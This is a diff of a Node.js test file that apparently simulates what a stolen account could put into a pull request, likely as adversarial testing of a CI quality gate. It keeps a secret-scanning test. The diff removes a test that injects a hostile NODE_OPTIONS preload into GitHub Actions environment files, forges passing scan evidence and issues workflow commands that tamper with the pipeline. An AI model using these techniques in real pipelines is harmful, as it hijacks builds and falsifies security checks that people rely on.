@@ -1,14 +1,6 @@
 // What a stolen account could put into a pull request: looks for anything of value, and fails when it finds some.
 import assert from 'node:assert/strict';
-import {
-  appendFileSync,
-  existsSync,
-  mkdirSync,
-  readFileSync,
-  readdirSync,
-  statSync,
-  writeFileSync,
-} from 'node:fs';
+import { existsSync, readFileSync, readdirSync, statSync } from 'node:fs';
 import path from 'node:path';
 import { test } from 'node:test';
 
@@ -79,24 +71,4 @@ test('no file within reach holds a secret', () => {
     .filter((file) => file !== path.resolve('test', 'hostile.test.js'))
     .filter((file) => statSync(file).size < 1_000_000 && secretText.test(readable(file)));
   assert.deepEqual(found, []);
-});
-
-test('what it writes is written again, or read by nobody', () => {
-  const forged =
-    'answer=pass\nverdict=pass\nevidence-directory=/\nNODE_OPTIONS=--require=/tmp/nowhere/hostile.cjs\n';
-  const named = ['GITHUB_OUTPUT', 'GITHUB_ENV', 'GITHUB_PATH', 'GITHUB_STATE'].flatMap(
-    (name) => process.env[name] ?? [],
-  );
-  const guessed = filesOf(path.join(work, '_temp')).filter((file) => file.includes('_runner_file_commands'));
-  for (const file of [...named, ...guessed]) appendFileSync(file, forged);
-
-  const evidence = path.join(work, '_temp', 'sluice-evidence', 'quality-gate');
-  mkdirSync(path.join(evidence, 'records'), { recursive: true });
-  for (const name of ['secrets_scan', 'dependency_scan', 'policy', 'records/forged']) {
-    writeFileSync(path.join(evidence, `${name}.json`), '{"schema":"sluice.evidence/v1","answer":"pass"}');
-  }
-
-  console.log('::set-output name=answer::pass');
-  console.log('::add-mask::pass');
-  console.log('::stop-commands::pause');
 });
